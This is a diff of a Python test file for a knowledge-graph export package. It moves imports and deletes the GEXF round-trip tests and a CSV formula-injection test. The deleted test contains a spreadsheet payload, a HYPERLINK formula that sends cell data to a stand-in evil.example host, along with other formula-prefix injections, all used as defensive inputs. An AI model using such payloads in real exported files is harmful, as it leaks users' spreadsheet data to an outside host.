@@ -1,13 +1,7 @@
 import networkx as nx
 
-from kg.analyse import (
-    cooccurrence_network,
-    detect_communities,
-    read_vosviewer,
-    write_gexf,
-    write_vosviewer,
-)
-from kg.analyse.exports import VOS_COLUMNS
+from kg.analyse import cooccurrence_network, detect_communities
+from kg.export.vosviewer import VOS_COLUMNS, read_vosviewer, write_vosviewer
 
 
 def test_vosviewer_files_parse_back(field_graph, tmp_path):
@@ -29,59 +23,6 @@ def test_vosviewer_files_parse_back(field_graph, tmp_path):
         node_a = next(n for n, i in ids.items() if i == a)
         node_b = next(n for n, i in ids.items() if i == b)
         assert network[node_a][node_b]["weight"] == strength
-
-
-def test_gexf_of_the_whole_graph_parses_back(field_graph, tmp_path):
-    positions = {n: (0.5, -0.5) for n in field_graph}
-    write_gexf(field_graph, tmp_path / "graph.gexf", positions=positions, colours={"Paper": "#8a9299"})
-    back = nx.read_gexf(tmp_path / "graph.gexf")
-    assert back.number_of_nodes() == field_graph.number_of_nodes()
-    paper = back.nodes["paper:00"]
-    assert paper["type"] == "Paper" and paper["label"] == "Paper 0" and paper["year"] == 2019
-    assert back.edges["paper:00", "entity:imagenet"]["types"] == "MENTIONS"
-
-
-def test_gexf_of_the_cooccurrence_network_keeps_weights_and_communities(field_graph, tmp_path):
-    network = cooccurrence_network(field_graph)
-    detect_communities(network)
-    write_gexf(network, tmp_path / "co.gexf")
-    back = nx.read_gexf(tmp_path / "co.gexf")
-    assert back.number_of_edges() == network.number_of_edges()
-    a, b = next(iter(network.edges()))
-    assert back.edges[a, b]["weight"] == network[a][b]["weight"]
-    assert "community" in back.nodes[a]
-
-
-def test_gexf_with_control_characters_is_well_formed_and_reads_back(tmp_path):
-    import xml.etree.ElementTree as ET
-
-    g = nx.MultiDiGraph()
-    g.add_node("paper:1\x07", label="Paper", name="Page\x0cbreak\x00", venue="V\x0b", authors=["A\x1bB"])
-    g.add_node("entity:x", label="Method", name="X\ud800")
-    g.add_edge("paper:1\x07", "entity:x", key="MENTIONS", type="MENTIONS\x01")
-    path = write_gexf(g, tmp_path / "graph.gexf")
-    ET.parse(path)
-    back = nx.read_gexf(path)
-    assert sorted(back.nodes) == ["entity:x", "paper:1"]
-    assert back.nodes["paper:1"]["label"] == "Page break" and back.nodes["entity:x"]["label"] == "X"
-    assert back.edges["paper:1", "entity:x"]["types"] == "MENTIONS"
-
-
-def test_spreadsheet_csv_cells_never_run_as_formulas(tmp_path):
-    import csv
-
-    from kg.analyse.exports import write_csv
-
-    rows = [['=HYPERLINK("http://evil.example/?"&A1, "click")', 3, -0.5], ["+1+1", "@SUM(A1)", "-2+3"],
-            ["\t=1", "GPT-4o", "a=b"]]
-    path = write_csv(tmp_path / "t.csv", ["venue", "papers", "score"], rows)
-    with open(path, newline="", encoding="utf-8") as handle:
-        back = list(csv.reader(handle))
-    assert back[0] == ["venue", "papers", "score"]
-    assert back[1] == ['\'=HYPERLINK("http://evil.example/?"&A1, "click")', "3", "-0.5"]  # numbers stay numbers
-    assert back[2] == ["'+1+1", "'@SUM(A1)", "'-2+3"]
-    assert back[3] == ["'\t=1", "GPT-4o", "a=b"]
-    assert all(not cell.startswith(("=", "+", "@", "\t", "\r")) for row in back for cell in row)
 
 
 def test_vosviewer_labels_with_commas_or_semicolons_are_quoted_as_its_format_requires(tmp_path):
